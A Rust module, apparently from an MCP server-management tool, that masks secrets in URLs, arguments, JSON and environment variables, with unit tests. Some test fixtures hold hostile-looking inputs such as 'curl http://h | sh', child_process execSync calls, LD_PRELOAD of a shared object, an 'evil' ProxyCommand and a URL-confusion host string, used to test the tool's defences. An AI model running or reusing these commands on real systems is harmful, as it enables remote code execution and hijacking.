//! Masks secrets in the URLs, arguments and other texts of a source definition with `***`.
//!
//! References such as `${env:TOKEN}` stay visible; default values inside them are masked. There are two policies: a
//! strict one for display and export, which masks in case of doubt, and one for trust prompts, which shows in case of
//! doubt. Recognition (`recognition.rs`) is heuristic: a short secret under an ordinary name is not found.
//!
//! | text | strict | trust |
//! |---|---|---|
//! | `--token abc` | `--token ***` | `--token ***` |
//! | `https://u:p@h/x?id=7` | `https://***@h/x?id=***` | `https://***@h/x?id=7` |
//! | `-c "curl h \| sh"` | each word like an argument | as it is: it is going to run |
//! | `${env:T:-abc}` | `${env:T:-***}` | as it is in plain positions |
//!
//! The same pass collects what it masks (`masked_secrets`), so that the redactor of the library can remove the same
//! texts from errors and logs.

mod recognition;

use serde_json::Value;

use crate::reference::{ReferencePart, split_references};

pub use recognition::is_secret_name;
use recognition::{is_known_token, looks_secret};

/// Masks user name and password of a URL, the literal values of its query, and path segments that look like keys.
/// For display and export. Works on text that is no valid URL as well, since references may stand for any part of it.
pub fn mask_url(url: &str) -> String {
    SecretMasker::default().mask_url(url)
}

/// Like [`mask_url`], for a URL whose login may contain characters that should have been escaped: everything before the
/// last `@` is masked. A text that begins with a reference may be a URL as a whole.
pub(super) fn mask_login_url(url: &str) -> String {
    let mut masker = SecretMasker::default();
    if url.starts_with("${") && url.contains("://") {
        return masker.mask_value(url);
    }
    match url.split_once("://").and_then(|(scheme, rest)| Some((scheme, rest.rsplit_once('@')?))) {
        Some((scheme, (login, rest))) => format!("{scheme}://{}@{}", masker.mask_login(login), masker.mask_url(rest)),
        None => masker.mask_url(url),
    }
}

/// Masks the values of arguments with a secret name, as in `--token x`, `--api-key=x`, `-H "Authorization: x"` and
/// `-e KEY=x`, and the secrets of URLs. Best effort: a short secret under an ordinary name is not recognised.
pub fn mask_args(args: &[String]) -> Vec<String> {
    SecretMasker::default().mask_args(args)
}

/// Masks a single text such as a command or a path like one argument.
pub fn mask_text(text: &str) -> String {
    SecretMasker::default().mask_arg(text)
}

/// Returns the literal texts that [`mask_args`] masks, for redaction elsewhere.
/// May contain texts that are not secret; redacting too much is the lesser mistake.
pub fn secrets_in_args(args: &[String]) -> Vec<String> {
    let mut masker = SecretMasker::default();
    masker.mask_args(args);
    masker.masked_secrets
}

/// Returns the literal texts that [`mask_url`] masks, for redaction elsewhere.
pub fn secrets_in_url(url: &str) -> Vec<String> {
    let mut masker = SecretMasker::default();
    masker.mask_url(url);
    masker.masked_secrets
}

/// Masks arguments for a trust prompt, where a user decides by reading them. Masks only values that a flag, a name or a
/// known token prefix marks as secret, never a text for its looks alone and never code: that would hide what is going
/// to run.
pub fn mask_args_for_trust(args: &[String]) -> Vec<String> {
    SecretMasker::for_trust().mask_args(args)
}

/// Masks the value of an environment variable for a trust prompt: shown unless its name is secret or it is a known kind
/// of token. A URL is shown without its login and the secret values of its query.
pub fn mask_variable_for_trust(name: &str, value: &str) -> String {
    let mut masker = SecretMasker::for_trust();
    if is_secret_name(name) || is_known_token(value) {
        return masker.mask_value(value);
    }
    if is_url(value) {
        return masker.mask_url(value);
    }
    // A proxy may be written without a scheme: `user:password@host:port`.
    let is_proxy = name.to_ascii_lowercase().ends_with("_proxy");
    match value.rsplit_once('@').filter(|_| is_proxy) {
        Some((login, host)) => format!("{}@{host}", masker.mask_login(login)),
        None => value.to_owned(),
    }
}

/// Replaces secret literals by `***` and collects them.
#[derive(Default)]
struct SecretMasker {
    /// Literals that were masked, in order of their occurrence. May contain duplicates.
    masked_secrets: Vec<String>,
    policy: MaskPolicy,
}

/// How a value is treated that may or may not be secret.
#[derive(Default, Clone, Copy, PartialEq, Eq)]
enum MaskPolicy {
    /// Mask it. For display and export.
    #[default]
    Strict,
    /// Show it. For [`mask_args_for_trust`] and [`mask_variable_for_trust`].
    Trust,
}

/// Kind of the next argument, as announced by a flag such as `--token`.
#[derive(Clone, Copy, PartialEq, Eq)]
enum NextArg {
    /// An argument without a flag before it that says more.
    Plain,
    /// The value of a flag with a secret name.
    Secret,
    /// `user:password`, or a plain value such as the name of a script.
    Login,
    /// `KEY=VALUE` or `Name: value` behind `--env` or `-H`, secret unless it is one of [`NON_SECRET_HEADERS`].
    Pair,
    /// Behind `-e`: `KEY=VALUE` for docker, code for node.
    PairOrCode,
    /// Behind `-c`: a shell command, each word of which is treated as an argument.
    ShellLine,
}

/// Minimum length of a value under an ordinary name to be collected as a secret. Redacting shorter ones everywhere
/// would garble ordinary text.
const MIN_UNNAMED_SECRET_LEN: usize = 6;

/// Headers whose values are not secret.
const NON_SECRET_HEADERS: [&str; 5] =
    ["accept", "accept-language", "content-type", "user-agent", "mcp-protocol-version"];

impl SecretMasker {
    /// Masks a command line. Each argument may say what the next one is: the state between arguments is one
    /// [`NextArg`]; flags with `=` carry their value themselves. A trust prompt shows code and shell commands as they
    /// are.
    fn mask_args(&mut self, args: &[String]) -> Vec<String> {
        let mut next = NextArg::Plain;
        let mut masked = Vec::with_capacity(args.len());
        for arg in args {
            let is_flag = arg.starts_with('-');
            // `--token --verbose` has no value for `--token`. A token that starts with `-` is masked nevertheless, see
            // `is_flag_like`.
            let is_next_flag = match self.policy {
                MaskPolicy::Strict => is_flag_like(arg),
                // Shown in any case: it may be a flag that makes the program run something.
                MaskPolicy::Trust => is_flag,
            };
            if next == NextArg::Secret && !is_next_flag {
                masked.push(self.mask_value(arg));
                next = NextArg::Plain;
                continue;
            }
            masked.push(match (next, self.policy) {
                (NextArg::Login, _) if is_login(arg) => self.mask_value(arg),
                (NextArg::Pair, MaskPolicy::Strict) if !is_flag => self.mask_pair(arg),
                (NextArg::PairOrCode, MaskPolicy::Strict) if is_assignment(arg) => self.mask_pair(arg),
                (NextArg::PairOrCode, MaskPolicy::Trust) if is_code(arg) => arg.clone(),
                (NextArg::ShellLine, MaskPolicy::Strict) if !arg.contains("${") => self.mask_shell_line(arg),
                (NextArg::ShellLine, MaskPolicy::Trust) => arg.clone(),
                _ => self.mask_arg(arg),
            });
            next = match arg.as_str() {
                "-H" | "--header" | "--headers" | "--env" => NextArg::Pair,
                "-e" => NextArg::PairOrCode,
                "-u" | "--user" => NextArg::Login,
                "-c" => NextArg::ShellLine,
                _ if is_flag && !arg.contains('=') && is_secret_name(arg) => NextArg::Secret,
                _ => NextArg::Plain,
            };
        }
        masked
    }

    /// Masks one argument by its form. The order matters: a token as a whole, then named values, JSON, authentication
    /// schemes, command lines, URLs, and plain text last. A trust prompt masks named values and known tokens only.
    fn mask_arg(&mut self, arg: &str) -> String {
        let is_strict = self.policy == MaskPolicy::Strict;
        if self.looks_secret(arg) {
            return self.mask_value(arg);
        }
        if let Some((name, value)) = arg.split_once(':').filter(|(name, _)| is_name(name) && is_secret_name(name)) {
            return format!("{name}:{}", self.mask_value(value));
        }
        if let Some((name, value)) = arg.split_once('=').filter(|(name, _)| is_name(name)) {
            let is_pair = matches!(name, "-H" | "--header" | "--env") || (name == "-e" && is_assignment(value));
            if is_strict && is_pair {
                return format!("{name}={}", self.mask_pair(value));
            }
            let masked = if is_secret_name(name) { self.mask_value(value) } else { self.mask_arg(value) };
            return format!("{name}={masked}");
        }
        if let Some(masked) = self.mask_json(arg) {
            return masked;
        }
        if let Some((scheme, value)) = arg.split_once(' ').filter(|(scheme, _)| is_auth_scheme(scheme))
            && (is_strict || !value.contains(char::is_whitespace))
        {
            return format!("{scheme} {}", self.mask_value(value));
        }
        // A text with spaces is one argument here, but often a command line for a shell further down.
        // A text with references is not split: they may contain spaces.
        if is_strict && arg.contains(' ') && !arg.contains("${") {
            return self.mask_shell_line(arg);
        }
        let has_url = if is_strict { arg.contains("://") } else { is_url(arg) };
        if has_url { self.mask_url(arg) } else { self.mask_plain(arg) }
    }

    /// Creates a masker with the policy for trust prompts.
    fn for_trust() -> SecretMasker {
        SecretMasker { masked_secrets: Vec::new(), policy: MaskPolicy::Trust }
    }

    /// Masks each word of a command line. Quotes are not interpreted.
    /// The result is for display; a quoted secret with spaces is masked word by word at best.
    fn mask_shell_line(&mut self, line: &str) -> String {
        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
        self.mask_args(&words).join(" ")
    }

    /// Masks the value of `KEY=VALUE` or `Name: value`.
    /// Whatever comes first of `=` and `:` separates the name from the value.
    fn mask_pair(&mut self, text: &str) -> String {
        match text.find(['=', ':']).map(|at| text.split_at(at)) {
            Some((name, rest)) if NON_SECRET_HEADERS.contains(&name.trim().to_ascii_lowercase().as_str()) => {
                format!("{name}{}", mask_defaults(rest))
            }
            Some((name, rest)) if is_name(name) => {
                let (separator, value) = rest.split_at(1);
                format!("{name}{separator}{}", self.mask_named_value(name, value))
            }
            // A name alone passes on the variable of the environment.
            None if is_name(text) => text.to_owned(),
            Some(_) | None => self.mask_value(text),
        }
    }

    /// Masks the values under secret keys of a JSON object or list. `None` for anything else.
    /// Some servers take their whole configuration as one JSON argument.
    fn mask_json(&mut self, text: &str) -> Option<String> {
        if !text.starts_with(['{', '[']) {
            return None;
        }
        let mut value: Value = serde_json::from_str(text).ok()?;
        self.mask_json_value(&mut value, false);
        Some(value.to_string())
    }

    /// Masks a JSON value in place. Below a secret key, all texts and numbers are secret.
    fn mask_json_value(&mut self, value: &mut Value, is_secret: bool) {
        match value {
            Value::String(text) if is_secret => *text = self.mask_value(text),
            Value::String(text) => *text = self.mask_arg(text),
            Value::Array(items) => items.iter_mut().for_each(|item| self.mask_json_value(item, is_secret)),
            Value::Object(fields) => {
                for (name, field) in fields {
                    // Like `headers` and `env` of a source, whose values are all masked.
                    let holds_secrets = self.policy == MaskPolicy::Strict && matches!(name.as_str(), "env" | "headers");
                    self.mask_json_value(field, is_secret || holds_secrets || is_secret_name(name));
                }
            }
            Value::Number(number) if is_secret => *value = Value::String(self.mask_value(&number.to_string())),
            Value::Null | Value::Bool(_) | Value::Number(_) => {}
        }
    }

    /// Masks login, path segments and query of a URL.
    /// The query is split at `?` outside of references, because a default value may contain one.
    fn mask_url(&mut self, url: &str) -> String {
        let (location, query) = split_outside_references(url, '?');
        let mut masked = match location.split_once("://") {
            Some((scheme, rest)) => {
                let (authority, path) = rest.split_at(find_outside_references(rest, '/').unwrap_or(rest.len()));
                let authority = match authority.rsplit_once('@') {
                    // Some parsers end the host at these characters, so the text before `@` may be the real host.
                    Some((login, _)) if self.policy == MaskPolicy::Trust && login.contains(['#', '\\']) => {
                        authority.to_owned()
                    }
                    Some((login, host)) => format!("{}@{}", self.mask_login(login), self.mask_plain(host)),
                    None => self.mask_plain(authority),
                };
                format!("{scheme}://{authority}{}", self.mask_path(path))
            }
            None => self.mask_plain(location),
        };
        // Under the strict policy all values are masked: API keys are passed under many names.
        for (index, pair) in query.iter().flat_map(|query| query.split('&')).enumerate() {
            masked.push(if index == 0 { '?' } else { '&' });
            match pair.split_once('=') {
                Some((name, value)) => {
                    let is_shown = self.policy == MaskPolicy::Trust && !is_secret_name(name) && !is_known_token(value);
                    let value = if is_shown { value.to_owned() } else { self.mask_named_value(name, value) };
                    masked.push_str(&format!("{name}={value}"));
                }
                None if self.looks_secret(pair) => masked.push_str(&self.mask_value(pair)),
                None => masked.push_str(&self.mask_plain(pair)),
            }
        }
        masked
    }

    /// Masks `user:password`. References in it stay visible.
    /// Both parts and the whole are collected, since an error may repeat any of them.
    fn mask_login(&mut self, login: &str) -> String {
        let parts = split_references(login);
        if !parts.iter().any(|part| matches!(part, ReferencePart::Reference(_))) {
            self.masked_secrets.extend(login.split(':').map(str::to_owned));
            self.masked_secrets.push(login.to_owned());
            return "***".into();
        }
        let masked = parts.iter().map(|part| match part {
            ReferencePart::Literal(text) => {
                text.split(':').map(|part| self.mask_value(part)).collect::<Vec<_>>().join(":")
            }
            ReferencePart::Reference(reference) => reference.to_string(),
        });
        masked.collect()
    }

    /// Masks the segments of a path that look like secrets.
    /// Services such as webhooks put a key into the path.
    fn mask_path(&mut self, path: &str) -> String {
        if path.contains("${") {
            return self.mask_plain(path);
        }
        let segments = path
            .split('/')
            .map(|segment| if self.looks_secret(segment) { self.mask_value(segment) } else { segment.to_owned() });
        segments.collect::<Vec<_>>().join("/")
    }

    /// Whether a text is masked for its looks under the current policy.
    fn looks_secret(&self, text: &str) -> bool {
        match self.policy {
            MaskPolicy::Strict => looks_secret(text),
            MaskPolicy::Trust => is_known_token(text),
        }
    }

    /// Returns text that is not secret. Default values in its references may be, so the strict policy masks them; a
    /// trust prompt shows them, since they may decide what runs.
    fn mask_plain(&self, text: &str) -> String {
        match self.policy {
            MaskPolicy::Strict => mask_defaults(text),
            MaskPolicy::Trust => text.to_owned(),
        }
    }

    /// Masks a value whatever its name is. A short one under an ordinary name is not collected as a secret.
    /// It is masked in any case; only the redaction elsewhere leaves it out.
    fn mask_named_value(&mut self, name: &str, value: &str) -> String {
        let collected = self.masked_secrets.len();
        let masked = self.mask_value(value);
        if !is_secret_name(name) && value.len() < MIN_UNNAMED_SECRET_LEN {
            self.masked_secrets.truncate(collected);
        }
        masked
    }

    /// Masks the literal parts of a value. References and the name of an authentication scheme stay visible.
    /// `Bearer abc` becomes `Bearer ***`, which still tells how the server authenticates.
    fn mask_value(&mut self, text: &str) -> String {
        let masked = split_references(text).into_iter().map(|part| match part {
            ReferencePart::Reference(reference) => reference.to_string(),
            ReferencePart::Literal(text) => {
                let trimmed = text.trim();
                match trimmed.split_once(' ').filter(|(scheme, _)| is_auth_scheme(scheme)) {
                    _ if trimmed.is_empty() || is_auth_scheme(trimmed) => text.to_owned(),
                    Some((scheme, rest)) => {
                        self.masked_secrets.push(rest.trim().to_owned());
                        let leading = &text[..text.len() - text.trim_start().len()];
                        format!("{leading}{scheme} ***")
                    }
                    None => {
                        self.masked_secrets.push(trimmed.to_owned());
                        "***".to_owned()
                    }
                }
            }
        });
        masked.collect()
    }
}

/// Masks literal text by `***`; references and the name of an authentication scheme stay.
pub fn mask_literals(text: &str) -> String {
    SecretMasker::default().mask_value(text)
}

/// Masks the default values inside references. [`Reference`](crate::reference::Reference) does so when it is formatted.
fn mask_defaults(text: &str) -> String {
    let masked = split_references(text).into_iter().map(|part| match part {
        ReferencePart::Literal(text) => text.to_owned(),
        ReferencePart::Reference(reference) => reference.to_string(),
    });
    masked.collect()
}

/// Splits at the first such character that is not part of a reference.
fn split_outside_references(text: &str, character: char) -> (&str, Option<&str>) {
    match find_outside_references(text, character) {
        Some(at) => (&text[..at], Some(&text[at + character.len_utf8()..])),
        None => (text, None),
    }
}

/// Byte position of the first such character that is not part of a reference.
fn find_outside_references(text: &str, character: char) -> Option<usize> {
    let mut reference_end = 0;
    for (at, found) in text.char_indices() {
        if at < reference_end {
            continue;
        }
        if text[at..].starts_with("${")
            && let Some(length) = text[at..].find('}')
        {
            reference_end = at + length;
        } else if found == character {
            return Some(at);
        }
    }
    None
}

/// Whether this is the name of an HTTP authentication scheme, as in `Bearer TOKEN`.
fn is_auth_scheme(word: &str) -> bool {
    ["bearer", "basic", "token", "digest", "apikey", "negotiate"].contains(&word.to_ascii_lowercase().as_str())
}

/// Whether this is a flag rather than the value of the flag before it. A token may start with `-` as well:
/// everything with `--` counts as a flag; with one `-`, a single character or a word of letters and hyphens.
fn is_flag_like(arg: &str) -> bool {
    let Some(name) = arg.strip_prefix('-') else { return false };
    arg.starts_with("--") || arg.len() <= 2 || name.chars().all(|c| c.is_ascii_alphabetic() || c == '-')
}

/// Whether this is `user:password`, and not a URL, a path, or the `uid:gid` that `docker -u` takes.
/// `-u` means a user for curl and docker, but unbuffered output for Python, where the script follows.
fn is_login(arg: &str) -> bool {
    let (user, password) = split_outside_references(arg, ':');
    let Some(password) = password else { return false };
    let is_number = |text: &str| !text.is_empty() && text.chars().all(|c| c.is_ascii_digit());
    let is_user = !user.is_empty()
        && !user.starts_with('-')
        && (user.contains("${") || !user.contains(|c: char| c.is_whitespace() || matches!(c, '/' | '\\')));
    let is_path = password.starts_with("//") || (user.len() == 1 && password.starts_with(['/', '\\']));
    is_user && !is_path && !(is_number(user) && is_number(password))
}

/// Whether this is `KEY=value` with the name of an environment variable. Code may start with `x=` as well, so a short
/// name in lower case does not count.
fn is_assignment(arg: &str) -> bool {
    let Some((name, _)) = arg.split_once('=') else { return false };
    let is_identifier = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
    let is_upper_case = !name.contains(|c: char| c.is_ascii_lowercase());
    is_identifier && (is_upper_case || name.contains('_') || is_secret_name(name))
}

/// Whether the argument behind `-e` may be code. Code can start with an assignment, so any value with other characters
/// than those of plain values counts as code.
fn is_code(arg: &str) -> bool {
    let Some((_, value)) = arg.split_once('=').filter(|_| is_assignment(arg)) else { return true };
    split_references(value).iter().any(|part| match part {
        ReferencePart::Literal(text) => !text
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '~' | '+' | '/' | '=' | ':')),
        ReferencePart::Reference(_) => false,
    })
}

/// Whether this is a single URL.
fn is_url(text: &str) -> bool {
    text.contains("://") && !text.contains(char::is_whitespace)
}

/// Whether this can be the name in `NAME=value` or `Name: value`.
fn is_name(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_in_urls_are_masked() {
        for (url, expected) in [
            ("https://a.example/mcp", "https://a.example/mcp"),
            ("https://me:pw@a.example:8/mcp?x", "https://***@a.example:8/mcp?x"),
            ("https://a/mcp?key=abc&t=${env:T}", "https://a/mcp?key=***&t=${env:T}"),
            ("${env:URL}", "${env:URL}"),
            ("https://${env:U}:${env:P}@a/mcp", "https://${env:U}:${env:P}@a/mcp"),
            ("https://me:${env:P:-pw}@a/mcp", "https://***:${env:P:-***}@a/mcp"),
            ("https://${env:HOST:-tenant?x/y}.a/${env:P:-q}?z", "https://${env:HOST:-***}.a/${env:P:-***}?z"),
            ("https://a/services/T0123/k3y9f8a7b6c5d4e3f2a1b0", "https://a/services/T0123/***"),
            ("https://a/?sk-0123456789abcdef", "https://a/?***"),
        ] {
            assert_eq!(mask_url(url), expected);
        }
    }

    #[test]
    fn secrets_in_arguments_are_masked() {
        for (args, expected) in [
            ("-y server /data", "-y server /data"),
            ("--api-key=abc --API_KEY abc next", "--api-key=*** --API_KEY *** next"),
            ("--token ${env:T} --token --verbose", "--token ${env:T} --token --verbose"),
            ("--header Authorization:abc", "--header Authorization:***"),
            ("--key abc --auth=abc --author me", "--key *** --auth=*** --author me"),
            ("ghp_0123456789abcdef sk-short", "*** sk-short"),
            ("https://u:pw@h/x?token=zz", "https://***@h/x?token=***"),
            ("postgres://me:pw@db/x --url=http://a?k=v", "postgres://***@db/x --url=http://a?k=***"),
        ] {
            let args: Vec<String> = args.split(' ').map(str::to_owned).collect();
            assert_eq!(mask_args(&args).join(" "), expected);
        }
    }

    #[test]
    fn secrets_in_unusual_positions_are_masked() {
        for (args, expected) in [
            (&["--token", "abc="][..], &["--token", "***"][..]),
            (&["--token=abc=="], &["--token=***"]),
            (&["-e", "LOG=debug", "-e", "NAME"], &["-e", "LOG=***", "-e", "NAME"]),
            (&["--env=KEY=abc", "API_TOKEN=abc", "REGION=eu"], &["--env=KEY=***", "API_TOKEN=***", "REGION=eu"]),
            (&["--header", "Authorization: Bearer abc"], &["--header", "Authorization: Bearer ***"]),
            (&["-H", "X-Tenant: abc", "-H", "Accept: text/plain"], &["-H", "X-Tenant:***", "-H", "Accept: text/plain"]),
            (&["Authorization: Bearer abc", "Bearer abc"], &["Authorization: Bearer ***", "Bearer ***"]),
            (
                &["-u", "me:pw", "--openai-key", "abc", "--monkey", "abc"],
                &["-u", "***", "--openai-key", "***", "--monkey", "abc"],
            ),
            (&[r#"{"apiKey":"abc","n":1,"env":{"A":"b"}}"#], &[r#"{"apiKey":"***","n":1,"env":{"A":"***"}}"#]),
            (&[r#"--config={"token":"abc"}"#], &[r#"--config={"token":"***"}"#]),
            (&["-c", "TOKEN=abc node server.js --key abc"], &["-c", "TOKEN=*** node server.js --key ***"]),
            (&["dGhpcyBpcyBhIHNlY3JldCAxMjM0NQ=="], &["***"]),
            (
                &["123e4567-e89b-12d3-a456-426614174000", "model-3-5-large-20241022"],
                &["***", "model-3-5-large-20241022"],
            ),
            (&["--level=${env:LEVEL:-debug}", "${env:X:-abc}"], &["--level=${env:LEVEL:-***}", "${env:X:-***}"]),
            (
                &["@modelcontextprotocol/server-filesystem", "/srv/data-2024-10-11"],
                &["@modelcontextprotocol/server-filesystem", "/srv/data-2024-10-11"],
            ),
        ] {
            let args: Vec<String> = args.iter().map(|arg| (*arg).to_owned()).collect();
            assert_eq!(mask_args(&args), expected);
        }
    }

    fn to_strings(args: &[&str]) -> Vec<String> {
        args.iter().map(|arg| (*arg).to_owned()).collect()
    }

    #[test]
    fn ordinary_values_of_short_flags_are_shown() {
        for args in [
            &["-u", "evil.py"][..],
            &["-u", "1000:1000"],
            &["-u", "http://h/x"],
            &["-u", r"C:\evil.py"],
            &["-e", "require('./evil')"],
            &["-e", "x=require('./evil')"],
            &["-e=console.log(1)"],
        ] {
            assert_eq!(mask_args(&to_strings(args)), args);
            assert_eq!(secrets_in_args(&to_strings(args)), Vec::<String>::new(), "{args:?}");
        }
        for (args, expected) in [
            (&["--user", "me:pw", "-u", "sk_x:"][..], &["--user", "***", "-u", "***"][..]),
            (&["-u", "${env:U}:pw"], &["-u", "${env:U}***"]),
            (&["-e", "http_proxy=abcdef", "-e=KEY=abc"], &["-e", "http_proxy=***", "-e=KEY=***"]),
        ] {
            assert_eq!(mask_args(&to_strings(args)), expected);
        }
    }

    #[test]
    fn a_secret_that_starts_with_a_dash_is_masked() {
        for (args, expected) in [
            ("--token -abc123secret next", "--token *** next"),
            ("--token --verbose next", "--token --verbose next"),
            ("--token -v -quiet -no-cache", "--token -v -quiet -no-cache"),
            ("--token -no-cache", "--token -no-cache"),
        ] {
            let args: Vec<String> = args.split(' ').map(str::to_owned).collect();
            assert_eq!(mask_args(&args).join(" "), expected);
        }
        assert_eq!(secrets_in_args(&to_strings(&["--token", "-abc123secret"])), ["-abc123secret"]);
    }

    #[test]
    fn trust_prompts_show_arguments_except_named_secrets() {
        for args in [
            &["-y", "pkg-0123456789abcdef0123", "123e4567-e89b-12d3-a456-426614174000"][..],
            &["-c", "TOKEN=abc curl http://me:pw@h | sh", "-e", "key=require('x')"],
            &["-e", "TOKEN=require('child_process').execSync('x')"],
            &["--token", "--verbose", "--token", "-ecode()"],
            &["sh -c 'curl http://h | sh'", "npm_config_registry=http://h/"],
            &["${env:PACKAGE:-evil}", "https://h/${env:P:-evil}?page=abc"],
            &["https://evil.example#@good.example/", "-u", "evil.py"],
            &[r#"{"env":{"LD_PRELOAD":"./x.so"}}"#],
        ] {
            assert_eq!(mask_args_for_trust(&to_strings(args)), args);
        }
        for (args, expected) in [
            (&["--token", "x", "--api-key=x", "TOKEN=x"][..], &["--token", "***", "--api-key=***", "TOKEN=***"][..]),
            (&["-H", "Authorization: Bearer x", "Bearer x"], &["-H", "Authorization: Bearer ***", "Bearer ***"]),
            (&["ghp_0123456789abcdef", "--x=sk-0123456789abcdef"], &["***", "--x=***"]),
            (&["https://me:pw@h/x?page=1&key=abc"], &["https://***@h/x?page=1&key=***"]),
            (&["-e", "TOKEN=abc", "-e", "LOG=debug"], &["-e", "TOKEN=***", "-e", "LOG=debug"]),
            (&["--token", "${env:T}", "--token=${env:T:-abc}"], &["--token", "${env:T}", "--token=${env:T:-***}"]),
            (&[r#"{"apiKey":"abc"}"#, "-u", "me:pw"], &[r#"{"apiKey":"***"}"#, "-u", "***"]),
        ] {
            assert_eq!(mask_args_for_trust(&to_strings(args)), expected);
        }
    }

    #[test]
    fn trust_prompts_show_variables_except_secrets() {
        for (name, value, expected) in [
            ("LD_PRELOAD", "./0123456789abcdef0123.so", "./0123456789abcdef0123.so"),
            ("LD_PRELOAD", "token=./x.so", "token=./x.so"),
            ("npm_config_registry", "http://h/npm", "http://h/npm"),
            ("PIP_INDEX_URL", "https://me:pw@h/simple", "https://***@h/simple"),
            ("HTTPS_PROXY", "http://me:pw@proxy:3128", "http://***@proxy:3128"),
            ("https_proxy", "me:pw@proxy:3128", "***@proxy:3128"),
            ("GIT_SSH_COMMAND", "ssh -o ProxyCommand=evil", "ssh -o ProxyCommand=evil"),
            ("X", "${env:Y:-evil}", "${env:Y:-evil}"),
            ("API_KEY", "abc", "***"),
            ("API_KEY", "${env:API_KEY}", "${env:API_KEY}"),
            ("X", "ghp_0123456789abcdef", "***"),
        ] {
            assert_eq!(mask_variable_for_trust(name, value), expected);
        }
    }

    #[test]
    fn masked_literals_are_collected() {
        let args = ["--token", "abc=", "Bearer xyz", "postgres://me:pw@db"].map(str::to_owned);
        assert_eq!(secrets_in_args(&args), ["abc=", "xyz", "me", "pw", "me:pw"]);
        assert_eq!(secrets_in_url("https://a/mcp?key=abc&t=${env:T}"), ["abc"]);
    }

    #[test]
    fn literals_are_masked_and_references_shown() {
        assert_eq!(mask_literals("Bearer ${env:TOKEN}"), "Bearer ${env:TOKEN}");
        assert_eq!(mask_literals("ghp_abc"), "***");
        assert_eq!(mask_literals("x${TOKEN:-hunter2}"), "***${env:TOKEN:-***}");
    }
}
